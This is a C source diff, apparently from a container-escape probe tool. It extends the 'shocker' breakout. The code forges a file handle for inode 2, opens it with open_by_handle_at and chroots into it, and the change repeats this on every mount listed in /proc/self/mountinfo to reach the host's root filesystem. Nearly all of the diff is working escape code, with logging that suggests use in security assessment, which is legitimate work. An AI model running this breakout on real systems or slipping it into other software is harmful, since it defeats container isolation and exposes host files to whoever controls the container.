@@ -93,8 +93,11 @@ static int join_victim(struct probe *p, char *root, size_t len)
   return -1;
 }
 
-/* The "shocker" technique: a handle for inode 2, the root of the filesystem. */
-static int by_handle(struct probe *p, char *root, size_t len)
+/* The "shocker" technique: a forged handle for inode 2, the root of a
+ * filesystem (ext*, xfs), opened through any fd on that filesystem. Tried on
+ * every mount of our view: / may be a tmpfs (ESTALE) while a bind mount of
+ * the host's disk sits below it. */
+static bool handle_on(struct probe *p, const char *point)
 {
   struct
   {
@@ -105,22 +108,66 @@ static int by_handle(struct probe *p, char *root, size_t len)
   unsigned int ino = 2, gen = 0;
 
   fh.h.handle_bytes = sizeof fh.bytes;
-  if (name_to_handle_at(AT_FDCWD, "/", &fh.h, &mount_id, 0) != 0)
+  if (name_to_handle_at(AT_FDCWD, point, &fh.h, &mount_id, 0) != 0)
     {
-      probe_attempt(p, "name_to_handle_at", "/", false, errno, NULL);
-      return -1;
+      probe_attempt(p, "name_to_handle_at", point, false, errno, NULL);
+      return false;
     }
   fh.h.handle_bytes = 8;
   fh.h.handle_type = 1; /* FILEID_INO32_GEN */
   memcpy(fh.h.f_handle, &ino, 4);
   memcpy(fh.h.f_handle + 4, &gen, 4);
-  mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
-  fd = open_by_handle_at(mount_fd, &fh.h, O_RDONLY | O_DIRECTORY);
-  probe_attempt(p, "open_by_handle_at", "inode 2", fd >= 0, errno, NULL);
-  if (fd < 0 || fchdir(fd) != 0 || chroot(".") != 0)
-    return -1;
-  snprintf(root, len, "/");
-  return 0;
+  mount_fd = open(point, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  fd = mount_fd >= 0 ? open_by_handle_at(mount_fd, &fh.h, O_RDONLY | O_DIRECTORY) : -1;
+  probe_attempt(p, "open_by_handle_at", point, fd >= 0, errno, "inode 2 of the filesystem mounted there");
+  if (mount_fd >= 0)
+    close(mount_fd);
+  if (fd < 0)
+    return false;
+  if (fchdir(fd) != 0 || chroot(".") != 0)
+    {
+      probe_attempt(p, "chroot to the handle", point, false, errno, NULL);
+      close(fd);
+      return false;
+    }
+  close(fd);
+  return true;
+}
+
+static int by_handle(struct probe *p, char *root, size_t len)
+{
+  size_t n = 0;
+  char *info = probe_read_file("/proc/self/mountinfo", 1 << 20, &n);
+  int tried = 0;
+
+  if (info == NULL)
+    probe_attempt(p, "read", "/proc/self/mountinfo", false, errno, "trying / alone");
+  for (char *line = info, *next; line != NULL && *line != '\0' && tried < 256; line = next)
+    {
+      char point[4096];
+      next = strchr(line, '\n');
+      if (next != NULL)
+        *next++ = '\0';
+      /* Paths with escaped characters (\040) are left out: a forged handle needs no unusual name. */
+      if (sscanf(line, "%*s %*s %*s %*s %4095s", point) != 1 || strchr(point, '\\') != NULL)
+        continue;
+      if (strncmp(point, "/proc", 5) == 0 || strncmp(point, "/sys", 4) == 0)
+        continue;
+      tried++;
+      if (handle_on(p, point))
+        {
+          free(info);
+          snprintf(root, len, "/");
+          return 0;
+        }
+    }
+  free(info);
+  if (tried == 0 && handle_on(p, "/"))
+    {
+      snprintf(root, len, "/");
+      return 0;
+    }
+  return -1;
 }
 
 static int chroot_breakout(struct probe *p, char *root, size_t len)
